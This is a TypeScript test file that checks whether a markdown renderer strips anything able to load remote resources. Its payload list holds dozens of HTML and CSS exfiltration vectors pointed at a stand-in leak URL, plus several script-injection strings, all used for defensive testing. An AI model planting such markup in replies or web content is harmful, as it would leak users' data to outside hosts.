import { expect } from "chai"
import { renderMarkdown } from "./markdown.ts"
import { renderMarkdownNodes } from "./markdown-dom.ts"

/** The two ways a reply is rendered: sanitised HTML, and nodes built from the tokens (markdown-dom.ts). */
const RENDERERS: Record<string, (markdown: string) => HTMLElement> = {
  "as sanitised HTML": (markdown) => {
    // Parsed in an inert document: these tests must not themselves fetch what they check.
    const doc = document.implementation.createHTMLDocument("")
    const div = doc.createElement("div")
    div.innerHTML = renderMarkdown(markdown, "Copy")
    return div
  },
  "as nodes": (markdown) => {
    const doc = document.implementation.createHTMLDocument("")
    const div = doc.createElement("div")
    div.append(renderMarkdownNodes(markdown, "Copy", doc))
    return div
  },
}

const EVIL = "https://evil.example/leak?d=SECRET"

/** Every way we know for HTML or CSS in a reply to load a resource when shown. */
const RENDER_PAYLOADS: Record<string, string> = {
  "markdown image": `![chart](${EVIL})`,
  "markdown image, reference style": `![chart][r]\n\n[r]: ${EVIL}`,
  "img src": `<img src="${EVIL}">`,
  "img srcset": `<img srcset="${EVIL} 1x" alt="a">`,
  "img lowsrc/dynsrc/longdesc": `<img lowsrc="${EVIL}" dynsrc="${EVIL}" longdesc="${EVIL}" src="data:image/png;base64,iVBORw0KGgo=">`,
  "picture source srcset": `<picture><source srcset="${EVIL}"><img alt="p"></picture>`,
  "style background-image": `<p style="background-image:url(${EVIL})">x</p>`,
  "style list-style-image": `<ul style="list-style-image:url(${EVIL})"><li>x</li></ul>`,
  "style border-image": `<div style="border: 1px solid; border-image: url(${EVIL}) 30">x</div>`,
  "style mask-image": `<div style="mask-image:url(${EVIL});-webkit-mask-image:url(${EVIL})">x</div>`,
  "style content url": `<span style="content:url(${EVIL})">x</span>`,
  "style image-set": `<div style="background:image-set(url(${EVIL}) 1x)">x</div>`,
  "style cursor url": `<div style="cursor:url(${EVIL}),auto">x</div>`,
  "style shape-outside": `<div style="shape-outside:url(${EVIL});float:left">x</div>`,
  "style @import / @font-face element": `<style>@import url(${EVIL}); @font-face { font-family: x; src: url(${EVIL}) } p { background: url(${EVIL}) }</style><p>x</p>`,
  "table background": `<table background="${EVIL}"><tr><td background="${EVIL}">x</td></tr></table>`,
  "body/div background": `<div background="${EVIL}">x</div>`,
  "video poster and src": `<video poster="${EVIL}" src="${EVIL}"><source src="${EVIL}"><track src="${EVIL}"></video>`,
  "audio src": `<audio src="${EVIL}" autoplay></audio>`,
  "svg image href": `<svg><image href="${EVIL}"/><image xlink:href="${EVIL}"/><use href="${EVIL}#x"/><feImage href="${EVIL}"/></svg>`,
  "input type=image": `<input type="image" src="${EVIL}">`,
  "link stylesheet/prefetch/preload/icon": `<link rel="stylesheet" href="${EVIL}"><link rel="prefetch" href="${EVIL}"><link rel="preload" as="image" href="${EVIL}"><link rel="icon" href="${EVIL}"><link rel="dns-prefetch" href="${EVIL}">`,
  "object data": `<object data="${EVIL}"></object>`,
  "embed src": `<embed src="${EVIL}">`,
  "iframe src/srcdoc": `<iframe src="${EVIL}"></iframe><iframe srcdoc="<img src='${EVIL}'>"></iframe>`,
  "frame/frameset": `<frameset><frame src="${EVIL}"></frameset>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  "base href": `<base href="https://evil.example/"><a href="x">rel</a>`,
  "a ping": `<a href="https://ok.example" ping="${EVIL}">ping</a>`,
  "form action / formaction": `<form action="${EVIL}"><button formaction="${EVIL}">go</button></form><button formaction="${EVIL}">b</button>`,
  "math href": `<math href="${EVIL}"><mi>x</mi></math>`,
  "portal / fencedframe": `<portal src="${EVIL}"></portal><fencedframe src="${EVIL}"></fencedframe>`,
  "applet / bgsound": `<applet codebase="${EVIL}"></applet><bgsound src="${EVIL}">`,
  "blockquote cite": `<blockquote cite="${EVIL}">q</blockquote>`,
  "template with img": `<template><img src="${EVIL}"></template>`,
  "noscript img": `<noscript><img src="${EVIL}"></noscript>`,
  "event handlers": `<p onmouseover="fetch('${EVIL}')">hover</p><details open ontoggle="fetch('${EVIL}')"><summary>s</summary></details>`,
}

/** Attributes that make a browser fetch something (or could, given the element). */
const LOADING_ATTRS = [
  "style",
  "background",
  "srcset",
  "poster",
  "ping",
  "formaction",
  "action",
  "data",
  "codebase",
  "lowsrc",
  "dynsrc",
  "longdesc",
  "cite",
  "xlink:href",
  "srcdoc",
  "content",
  "http-equiv",
]
const LOADING_TAGS =
  "link, base, meta, style, object, embed, iframe, frame, frameset, video, audio, source, track, picture, svg, math, image, use, feimage, form, portal, fencedframe, applet, bgsound, template, noscript, script"

const loadsSomething = (root: Element): string[] => {
  const found: string[] = []
  for (const el of root.querySelectorAll(LOADING_TAGS)) found.push(`<${el.tagName.toLowerCase()}>`)
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.getAttributeNames()) {
      if (LOADING_ATTRS.includes(attr) || attr.startsWith("on")) found.push(`${el.tagName.toLowerCase()}[${attr}]`)
      if (attr === "src" && !/^(data:image\/|blob:)/.test(el.getAttribute("src") ?? ""))
        found.push(`${el.tagName.toLowerCase()}[src=remote]`)
      if (attr === "href" && el.tagName !== "A") found.push(`${el.tagName.toLowerCase()}[href]`)
    }
  }
  return found
}

for (const [how, dom] of Object.entries(RENDERERS))
  describe(`Markdown rendering, ${how}`, () => {
    it("renders GFM: emphasis, lists, tables (in a scroller) and code blocks with a copy button", () => {
      const div = dom("**bold** and `code`\n\n- a\n- b\n\n| A | B |\n|:-|-:|\n| 1 | 2 |\n\n```ts\nconst x = 1 < 2\n```")
      expect(div.querySelector("strong")?.textContent).to.equal("bold")
      expect(div.querySelectorAll("li")).to.have.length(2)
      expect(div.querySelector(".table-wrap table td")?.textContent).to.equal("1")
      expect(div.querySelectorAll("td")[1]!.className).to.equal("align-right", "alignment is a class, not a style attribute")
      expect(div.querySelector("[style]")).to.equal(null)
      expect(div.querySelector(".code-block pre code")?.textContent).to.equal("const x = 1 < 2")
      expect(div.querySelector(".code-lang")?.textContent).to.equal("ts")
      expect(div.querySelector("button[data-copy-code]")?.textContent).to.equal("Copy")
    })

    it("drops scripts, event handlers, forms and javascript: links", () => {
      const div = dom(
        '<script>window.pwned = 1</script><img src="x" onerror="window.pwned=2"><form><input></form>[x](javascript:alert(1)) <a href="https://ok.example" onclick="1">ok</a>',
      )
      expect(div.querySelector("script, img, form, input, [onerror], [onclick]")).to.equal(null)
      const links = [...div.querySelectorAll("a")]
      expect(links.filter((a) => /^\s*javascript:/i.test(a.getAttribute("href") ?? ""))).to.deep.equal([])
      expect(div.textContent).to.include("x")
      const ok = links.find((a) => a.textContent === "ok")!
      expect(ok.getAttribute("href")).to.equal("https://ok.example")
      expect(ok.getAttribute("target")).to.equal("_blank")
      expect(ok.getAttribute("rel")).to.equal("noopener noreferrer")
      expect(ok.getAttribute("referrerpolicy")).to.equal("no-referrer")
      expect((globalThis as { pwned?: number }).pwned).to.equal(undefined)
    })

    for (const [kind, payload] of Object.entries(RENDER_PAYLOADS)) {
      it(`leaves nothing that loads a resource: ${kind}`, () => {
        const div = dom(`Before\n\n${payload}\n\nAfter`)
        expect(loadsSomething(div)).to.deep.equal([])
        expect(div.textContent).to.include("Before")
        expect(div.textContent).to.include("After")
      })
    }

    it("shows a remote image as a link that opens in a new tab with no referrer", () => {
      for (const markdown of [`![the chart](${EVIL})`, `<img src="${EVIL}" alt="the chart">`]) {
        const div = dom(markdown)
        expect(div.querySelector("img")).to.equal(null)
        const link = div.querySelector("a.image-link")!
        expect(link, markdown).to.not.equal(null)
        expect(link.getAttribute("href")).to.equal(EVIL)
        expect(link.textContent).to.equal("the chart")
        expect(link.getAttribute("target")).to.equal("_blank")
        expect(link.getAttribute("rel")).to.equal("noopener noreferrer")
        expect(link.getAttribute("referrerpolicy")).to.equal("no-referrer")
      }
      // Without alt text the link shows its address; an image of another scheme is only its alt text.
      expect(dom(`![](${EVIL})`).querySelector("a.image-link")?.textContent).to.equal(EVIL)
      const other = dom("![ftp picture](ftp://evil.example/x.png)")
      expect(other.querySelector("img, a[href]")).to.equal(null)
      expect(other.textContent).to.include("ftp picture")
    })

    it("keeps data: and blob: images, which load nothing from the network", () => {
      const png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
      const div = dom(`![dot](${png}) <img src="blob:chrome-extension://abc/123" alt="b">`)
      const srcs = [...div.querySelectorAll("img")].map((i) => i.getAttribute("src"))
      expect(srcs).to.deep.equal([png, "blob:chrome-extension://abc/123"])
      expect(dom("<img src='data:text/html,<script>1</script>'>").querySelector("img")).to.equal(null)
    })

    it("shows a task list's checkboxes, disabled, and no other input", () => {
      const div = dom(`- [x] done\n- [ ] todo\n\n<input type=text value=1><input type=image src=x><input type=checkbox src="${EVIL}">`)
      const inputs = [...div.querySelectorAll("input")]
      expect(inputs.map((i) => [i.type, i.checked, i.disabled])).to.deep.equal([
        ["checkbox", true, true],
        ["checkbox", false, true],
        ["checkbox", false, true],
      ])
      expect(div.querySelector("[src]")).to.equal(null)
    })

    it("escapes a code block's language and content", () => {
      const div = dom('```"><img src=x onerror=alert(1)>\n<b>not bold</b>\n```')
      expect(div.querySelector("img, b")).to.equal(null)
      expect(div.querySelector("pre code")?.textContent).to.equal("<b>not bold</b>")
    })
  })
